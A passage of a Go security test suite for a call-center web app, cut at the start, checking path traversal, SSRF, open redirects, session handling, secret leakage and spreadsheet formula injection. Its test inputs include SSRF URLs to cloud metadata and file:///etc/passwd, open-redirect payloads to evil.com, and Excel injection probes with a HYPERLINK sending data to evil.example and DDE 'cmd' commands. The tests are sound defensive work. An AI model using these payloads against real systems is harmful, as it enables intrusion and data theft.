	c := app.Login(t, store.RoleSupervisor)

	// Positive controls: a real recording and a real template's audio.
	for _, p := range []string{"/recordings/" + f.task + "/" + f.call, "/templates/" + f.tmpl + "/audio/1"} {
		res, body := app.Get(t, c, p)
		secCheck(t, p, res, body)
		if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "audio/") {
			t.Errorf("%s: %d %q, want the audio", p, res.StatusCode, res.Header.Get("Content-Type"))
		}
	}
	recs, tpls := app.Sandbox.Count("recordings"), app.Sandbox.Count("template_audio")

	long := strings.Repeat("9", 101)
	malformed := []string{
		"/recordings/" + f.task + "/..", "/recordings/" + f.task + "/.", "/recordings/" + f.task + "/%2e%2e",
		"/recordings/" + f.task + "/a%2F..%2F..%2Fb", "/recordings/" + f.task + "/" + url.PathEscape(secScript),
		"/recordings/" + f.task + "/" + long, "/recordings/" + f.task + "/x%00", "/recordings/" + f.task + "/%20",
		"/recordings/..%2F" + f.task + "/" + f.call, "/recordings/" + strings.Repeat("1", 65) + "/" + f.call,
		"/recordings/" + url.PathEscape("1 OR 1=1") + "/" + f.call, "/recordings/999999999/" + f.call,
		"/recordings/" + f.task + "/" + f.call + "/..",
		"/templates/..%2F/audio/1", "/templates/%2e%2e/audio/1", "/templates/" + url.PathEscape(secScript) + "/audio/1",
		"/templates/" + f.tmpl + "/audio/0", "/templates/" + f.tmpl + "/audio/-1", "/templates/" + f.tmpl + "/audio/abc",
		"/templates/" + f.tmpl + "/audio/1.5", "/templates/" + f.tmpl + "/audio/99999", "/templates/" + f.tmpl + "/audio/%2e%2e",
		"/templates/" + strings.Repeat("1", 65) + "/audio/1", "/templates/999999999/audio/1",
	}
	for _, p := range malformed {
		res, body := app.Get(t, c, p)
		secCheck(t, p, res, body)
		if res.StatusCode != http.StatusNotFound && res.StatusCode != http.StatusBadRequest {
			t.Errorf("GET %s: %d, want 404", p, res.StatusCode)
		}
	}

	// URLs the platform (a push) names: only allowed hosts, http(s), no
	// redirect off them.
	bad := []string{
		"http://evil.example/a.wav",
		target.URL + "/a.wav",
		"http://169.254.169.254/latest/meta-data/",
		"file:///etc/passwd",
		"//evil.example/a.wav",
		"http://" + redirHost + "@evil.example/a.wav",
		"gopher://" + redirHost + "/_x",
		"ftp://" + redirHost + "/a.wav",
		redir.URL + "/a.wav", // 302 to a host not allowed
		redir.URL + "/meta",
		redir.URL + "/file",
		redir.URL + "/rel",
		"http://127.0.0.1:" + strings.Split(redirHost, ":")[1] + "0/a.wav",
	}
	for i, vu := range bad {
		id := "ssrf" + strconv.Itoa(i)
		secPushCall(t, app, f.task, map[string]any{"callid": id, "voice_url": vu})
		res, body := app.Get(t, c, "/recordings/"+f.task+"/"+id)
		secCheck(t, vu, res, body)
		if res.StatusCode != http.StatusNotFound {
			t.Errorf("recording at %s: %d, want 404", vu, res.StatusCode)
		}
		if res, _ := app.Do(t, c, http.MethodHead, "/recordings/"+f.task+"/"+id, nil, nil); res.StatusCode != http.StatusNotFound {
			t.Errorf("HEAD recording at %s: %d, want 404", vu, res.StatusCode)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the proxy fetched %d times from a host not allowed", n)
	}
	if n := app.Sandbox.Count("recordings") - recs; n != 0 {
		t.Errorf("malformed requests fetched %d recordings", n)
	}
	if n := app.Sandbox.Count("template_audio") - tpls; n != 0 {
		t.Errorf("malformed requests fetched %d template audios", n)
	}

	// With the platform's host not configured, neither route fetches from it.
	f2 := newSecFixture(t, testapp.Options{Configure: func(c *handlers.Config) { c.RecordingHosts = []string{"recordings.example.com"} }})
	c2 := f2.app.Login(t, store.RoleSupervisor)
	for _, p := range []string{"/recordings/" + f2.task + "/" + f2.call, "/templates/" + f2.tmpl + "/audio/1"} {
		res, body := f2.app.Get(t, c2, p)
		secCheck(t, p, res, body)
		if res.StatusCode != http.StatusNotFound {
			t.Errorf("host not configured, %s: %d, want 404", p, res.StatusCode)
		}
	}
	if n := f2.app.Sandbox.Count("recordings") + f2.app.Sandbox.Count("template_audio"); n != 0 {
		t.Errorf("fetched %d times from a host not configured", n)
	}
}

// secLocalLocation checks that a redirect stays on this site.
func secLocalLocation(t *testing.T, app *testapp.App, what, loc string) {
	t.Helper()
	base, _ := url.Parse(app.URL + "/login")
	u, err := url.Parse(loc)
	if err != nil {
		t.Errorf("%s: Location %q: %v", what, loc, err)
		return
	}
	if strings.ContainsAny(loc, "\\\t\r\n") || strings.HasPrefix(loc, "//") || !strings.HasPrefix(loc, "/") ||
		u.Scheme != "" || u.Host != "" || base.ResolveReference(u).Host != base.Host {
		t.Errorf("%s: redirects off-site to %q", what, loc)
	}
}

// TestSecurityLoginNext: the login's next parameter cannot send anyone off
// the site, after the form, when already logged in, or through the form's
// hidden field.
func TestSecurityLoginNext(t *testing.T) {
	app := testapp.New(t, testapp.Options{NoSeedData: true})
	host := strings.TrimPrefix(app.URL, "http://")
	bad := []string{
		"//evil.com", "https://evil.com", `/\evil.com`, `\\evil.com`, `/\/evil.com`, `\/evil.com`, "///evil.com",
		"/.//evil.com", "/a/..//evil.com", "//evil.com/%2F..", "https:/evil.com", "https:evil.com", "HTTPS://evil.com",
		" //evil.com", "\t//evil.com", "/\t/evil.com", "/\n/evil.com", "javascript:alert(1)", "%2F%2Fevil.com",
		"//evil.com@" + host, "//" + host + "@evil.com", "/login?next=//evil.com", "/%09/evil.com", "/%5Cevil.com",
		"//%65vil.com", "/ /evil.com", "data:text/html,x",
	}
	for _, next := range bad {
		// After the form.
		c := app.NewClient()
		res := app.PostForm(t, c, "/login", url.Values{"username": {"admin"}, "password": {app.Passwords[store.RoleAdmin]}, "next": {next}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("login with next=%q: %d", next, res.StatusCode)
		}
		secLocalLocation(t, app, "POST /login next="+next, res.Header.Get("Location"))
		// Already logged in.
		res, _ = app.Get(t, c, "/login?next="+url.QueryEscape(next))
		if res.StatusCode != http.StatusSeeOther {
			t.Errorf("logged in, GET /login?next=%q: %d, want 303", next, res.StatusCode)
		}
		secLocalLocation(t, app, "GET /login next="+next, res.Header.Get("Location"))
		// The form carries only a local path.
		res, body := app.Get(t, app.NewClient(), "/login?next="+url.QueryEscape(next))
		secCheck(t, "GET /login?next="+next, res, body)
		if v, ok := doc(t, body).Find("input[name=next]").Attr("value"); ok && v != "" {
			secLocalLocation(t, app, "login form next for "+next, v)
		}
	}
	// A local next is kept.
	c := app.NewClient()
	res := app.PostForm(t, c, "/login", url.Values{"username": {"admin"}, "password": {app.Passwords[store.RoleAdmin]}, "next": {"/users?x=1"}})
	if loc := res.Header.Get("Location"); loc != "/users?x=1" {
		t.Errorf("local next: Location %q, want /users?x=1", loc)
	}
}

// TestSecurityErrorPagesHeaders: the funnel's pages (404, 405, CSRF 403,
// role 403, 413) carry the headers and no internals.
func TestSecurityErrorPagesHeaders(t *testing.T) {
	app := testapp.New(t, testapp.Options{NoSeedData: true})
	sup := app.Login(t, store.RoleSupervisor)
	check := func(what string, res *http.Response, body string, want int) {
		t.Helper()
		secCheck(t, what, res, body)
		if res.StatusCode != want {
			t.Errorf("%s: %d, want %d", what, res.StatusCode, want)
		}
	}
	res, body := app.Get(t, app.NewClient(), "/nope")
	check("404", res, body, http.StatusNotFound)
	res, body = app.Get(t, sup, "/tasks/"+url.PathEscape("bad id!"))
	check("bad task id", res, body, http.StatusNotFound)
	res, body = app.Get(t, sup, "/logout")
	check("405", res, body, http.StatusMethodNotAllowed)
	res, body = app.Do(t, sup, http.MethodPost, "/users", strings.NewReader(""), http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {app.URL}})
	check("CSRF 403", res, body, http.StatusForbidden)
	res, body = app.Get(t, sup, "/users")
	check("role 403", res, body, http.StatusForbidden)
	big := strings.NewReader("csrf_token=x&a=" + strings.Repeat("a", 2<<20))
	res, body = app.Do(t, sup, http.MethodPost, "/users", big, http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {app.URL}})
	check("413", res, body, http.StatusRequestEntityTooLarge)
	// Static files and the push hook's JSON are not sniffed either.
	res, body = app.Get(t, app.NewClient(), "/static/app.js")
	secCheck(t, "static", res, body)
	res = postPush(t, app, "/hooks/icall/test-push-token", "not json")
	if res.Header.Get("X-Content-Type-Options") != "nosniff" || res.StatusCode != http.StatusBadRequest {
		t.Errorf("push hook: %d nosniff %q", res.StatusCode, res.Header.Get("X-Content-Type-Options"))
	}
}

// TestSecuritySessions: the session cookie is HttpOnly, SameSite=Lax and
// Secure on https, and ends after 2 h idle or 12 h in all; failed logins
// are slowed down.
func TestSecuritySessions(t *testing.T) {
	var mu sync.Mutex
	now := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	advance := func(d time.Duration) { mu.Lock(); now = now.Add(d); mu.Unlock() }
	app := testapp.New(t, testapp.Options{NoSeedData: true, Now: clock})

	loggedIn := func(c *http.Client) bool {
		res, _ := app.Get(t, c, "/users")
		return res.StatusCode == http.StatusOK
	}
	// Idle.
	c := app.Login(t, store.RoleAdmin)
	advance(119 * time.Minute)
	if !loggedIn(c) {
		t.Fatal("logged out before 2 h idle")
	}
	advance(121 * time.Minute)
	if loggedIn(c) {
		t.Error("still logged in after more than 2 h idle")
	}
	// Absolute: active every hour, out after 12 h.
	c = app.Login(t, store.RoleAdmin)
	for i := 0; i < 11; i++ {
		advance(time.Hour)
		if !loggedIn(c) {
			t.Fatalf("logged out after %d h of activity", i+1)
		}
	}
	advance(61 * time.Minute)
	if loggedIn(c) {
		t.Error("still logged in more than 12 h after login")
	}

	// Slowdown: after a few failures, even the right password waits.
	c = app.NewClient()
	var last *http.Response
	for i := 0; i < 5; i++ {
		last = app.LoginAs(t, c, "manager", "wrong-password")
	}
	if last.StatusCode != http.StatusTooManyRequests || last.Header.Get("Retry-After") == "" {
		t.Errorf("5th failure: %d Retry-After %q, want 429 with Retry-After", last.StatusCode, last.Header.Get("Retry-After"))
	}
	if res := app.LoginAs(t, c, "manager", app.Passwords[store.RoleManager]); res.StatusCode == http.StatusSeeOther {
		t.Error("the right password went through during the slowdown")
	}
}

// secFailing fails the client's requests to one platform endpoint as a
// broken connection would.
type secFailing []string

func (f secFailing) RoundTrip(r *http.Request) (*http.Response, error) {
	for _, ep := range f {
		if strings.HasSuffix(r.URL.Path, "/"+ep) {
			return nil, errors.New("connection reset by peer")
		}
	}
	return http.DefaultTransport.RoundTrip(r)
}

// secLog collects log output.
type secLog struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *secLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *secLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

// TestSecurityPlatformSecretsNotShown: when a lifecycle call to the platform
// fails in transport, neither the user, the audit pages nor the logs get the
// platform credentials (surface A sends appid and signature in the query
// string of its GET calls, and Go's *url.Error quotes the whole URL).
func TestSecurityPlatformSecretsNotShown(t *testing.T) {
	logs := &secLog{}
	app := testapp.New(t, testapp.Options{
		Logger:        slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		ClientOptions: []client.Option{client.WithHTTPClient(&http.Client{Transport: secFailing{"pause_task", "query_task"}, Timeout: 10 * time.Second})},
	})
	app.RememberSandboxTasks(t)
	ctx := context.Background()
	infos, err := app.Client.QueryTaskInfo(ctx, app.Sandbox.TaskIDs())
	if err != nil {
		t.Fatal(err)
	}
	var running string
	for _, info := range infos {
		if info.Status == client.TaskRunning {
			running = info.ID
			break
		}
	}
	if running == "" {
		t.Fatal("no running task in the seed")
	}
	c := app.Login(t, store.RoleManager)
	res, body := app.PostFormBody(t, c, "/tasks/"+running+"/pause", url.Values{})
	secCheck(t, "failed pause", res, body)
	if res.StatusCode == http.StatusForbidden || res.StatusCode == http.StatusOK {
		t.Fatalf("pause with the platform unreachable: %d", res.StatusCode)
	}
	if app.Sandbox.Count("pause_task") != 0 {
		t.Fatal("the failing transport let pause_task through")
	}
	if got := mustAudit(t, app, running); !strings.Contains(got, "pause") {
		t.Fatalf("no audit entry for the failed pause: %q", got)
	}
	for _, p := range []string{"/audit", "/tasks/" + running + "/audit", "/tasks/" + running, "/tasks"} {
		res, body := app.Get(t, c, p)
		secCheck(t, p, res, body) // secLeaks has appid=, signature=, demo-signature
	}
	if l := logs.String(); strings.Contains(l, "demo-signature") || strings.Contains(l, "demo-token") {
		i := strings.Index(l, "demo-signature")
		t.Errorf("the logs carry the platform signature: …%s…", l[max(0, i-200):min(len(l), i+40)])
	}
}

// mustAudit is the audit log of task as one string.
func mustAudit(t *testing.T, app *testapp.App, task string) string {
	t.Helper()
	es, err := app.Store.Audit(context.Background(), store.AuditFilter{TaskID: task, Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, e := range es {
		b.WriteString(e.Action + " " + e.Detail + " " + e.Answer + "\n")
	}
	return b.String()
}

// TestSecurityLogoutEndsSession: after POST /logout, a copy of the session
// cookie taken before (a shared computer, a stolen cookie) no longer works.
func TestSecurityLogoutEndsSession(t *testing.T) {
	app := testapp.New(t, testapp.Options{NoSeedData: true})
	c := app.Login(t, store.RoleAdmin)
	u, _ := url.Parse(app.URL)
	old := c.Jar.Cookies(u)
	if res := app.PostForm(t, c, "/logout", url.Values{}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("logout: %d", res.StatusCode)
	}
	if res, _ := app.Get(t, c, "/users"); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("the browser that logged out still gets /users: %d", res.StatusCode)
	}
	replay := app.NewClient()
	replay.Jar.SetCookies(u, old)
	if res, _ := app.Get(t, replay, "/users"); res.StatusCode != http.StatusSeeOther {
		t.Errorf("the session cookie from before logout still works (/users %d): logout must end the session on the server", res.StatusCode)
	}
}

// TestSecurityCookieFlags: behind https every cookie dialdesk sets is Secure
// and SameSite=Lax, and all but export_done (read by call.js) HttpOnly.
func TestSecurityCookieFlags(t *testing.T) {
	f := newSecFixture(t, testapp.Options{Configure: func(c *handlers.Config) { c.TrustProxy = true }})
	app := f.app
	https := http.Header{"X-Forwarded-Proto": {"https"}}
	var cookies []*http.Cookie
	c := app.NewClient()
	res, body := app.Do(t, c, http.MethodGet, "/login?lang=en", nil, https)
	cookies = append(cookies, res.Cookies()...)
	tok := doc(t, body).Find("input[name=csrf_token]").AttrOr("value", "")
	form := url.Values{"csrf_token": {tok}, "username": {"supervisor"}, "password": {app.Passwords[store.RoleSupervisor]}}
	res, _ = app.Do(t, c, http.MethodPost, "/login", strings.NewReader(form.Encode()),
		http.Header{"X-Forwarded-Proto": {"https"}, "Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {"https://" + strings.TrimPrefix(app.URL, "http://")}})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login over https: %d", res.StatusCode)
	}
	cookies = append(cookies, res.Cookies()...)
	res, _ = app.Do(t, c, http.MethodGet, "/tasks/"+f.task+"/calls/export.xlsx?t=abc123", nil, https)
	cookies = append(cookies, res.Cookies()...)
	names := map[string]bool{}
	for _, ck := range cookies {
		names[ck.Name] = true
		if !ck.Secure {
			t.Errorf("cookie %s set over https without Secure", ck.Name)
		}
		if ck.SameSite != http.SameSiteLaxMode && ck.SameSite != http.SameSiteStrictMode {
			t.Errorf("cookie %s: SameSite %v", ck.Name, ck.SameSite)
		}
		if !ck.HttpOnly && ck.Name != "export_done" {
			t.Errorf("cookie %s without HttpOnly", ck.Name)
		}
	}
	for _, want := range []string{"dialdesk", "csrf_token", "lang"} {
		if !names[want] {
			t.Errorf("cookie %s not seen (got %v)", want, names)
		}
	}
}

// TestSecurityExportNoFormulas: texts from the platform or a push that
// begin with = + - @ are written to the call export as text cells, never as
// formulas.
func TestSecurityExportNoFormulas(t *testing.T) {
	f := newSecFixture(t, testapp.Options{})
	app := f.app
	probes := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}
	secPushCall(t, app, f.task, map[string]any{"callid": "formula1", "tel": probes[0], "caller": probes[3],
		"intention_name": []string{probes[1], probes[2]}, "start_time": time.Now().UnixMilli(), "answer_time": time.Now().UnixMilli()})
	c := app.Login(t, store.RoleSupervisor)
	res, body := app.Get(t, c, "/tasks/"+f.task+"/calls/export.xlsx")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d", res.StatusCode)
	}
	zr, err := zip.NewReader(strings.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s has formula cells", zf.Name)
		}
	}
	xf, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer xf.Close()
	sheet := xf.GetSheetName(0)
	rows, err := xf.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for r, row := range rows {
		for col, v := range row {
			cell, _ := excelize.CoordinatesToCellName(col+1, r+1)
			if fm, _ := xf.GetCellFormula(sheet, cell); fm != "" {
				t.Errorf("%s is a formula: %q", cell, fm)
			}
			for _, p := range probes {
				if strings.Contains(v, p) {
					seen[p] = true
				}
			}
		}
	}
	if !seen[probes[0]] {
		t.Logf("note: the pushed call is not in the export (rows %d); only the no-formula checks ran on the platform's rows", len(rows))
	}
}

// TestSecurityNumberHideEverywhere: a task's number_hide (set when the task
// was created) masks the callee on every page that lists its calls, the
// recent-calls page included.
func TestSecurityNumberHideEverywhere(t *testing.T) {
	f := newSecFixture(t, testapp.Options{})
	app := f.app
	ctx := context.Background()
	if err := app.Store.SetTaskCallSettings(ctx, f.task, store.TaskCallSettings{NumberHide: client.NumberHideMiddle4}); err != nil {
		t.Fatal(err)
	}
	const tel = "13812345678"
	secPushCall(t, app, f.task, map[string]any{"callid": "hidden1", "tel": tel})
	c := app.Login(t, store.RoleSupervisor)
	for _, p := range []string{"/tasks/" + f.task + "/calls/hidden1", "/calls"} {
		res, body := app.Get(t, c, p)
		secCheck(t, p, res, body)
		if res.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", p, res.StatusCode)
		}
		if strings.Contains(body, tel) {
			t.Errorf("%s shows %s in full although the task hides the middle four digits", p, tel)
		}
	}
}
